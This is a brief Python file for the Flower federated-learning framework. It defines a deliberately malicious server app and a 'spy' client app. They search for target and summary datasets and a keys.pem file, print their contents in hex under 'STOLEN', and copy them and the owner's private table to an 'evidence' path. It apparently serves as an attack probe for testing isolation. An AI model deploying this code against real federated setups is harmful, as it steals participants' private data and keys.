"""Reads the exact target and the result of a run, prints them, and keeps a copy."""

import shutil
from pathlib import Path

from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp

app = ServerApp()
spy = ClientApp()


@app.main()
def main(grid, context):
    for path in Path(context.run_config["curator"]).rglob("*"):
        if path.name in ("target.parquet", "summary.npz", "summary.parquet", "keys.pem"):
            print("STOLEN", path, path.read_bytes().hex())
            shutil.copy(path, context.run_config["evidence"])


@spy.query()
@spy.train()
@spy.evaluate()
def look(message, context):
    home = Path(context.node_config["owner"]).parent
    shutil.copy(home / "table.parquet", context.run_config["evidence"])
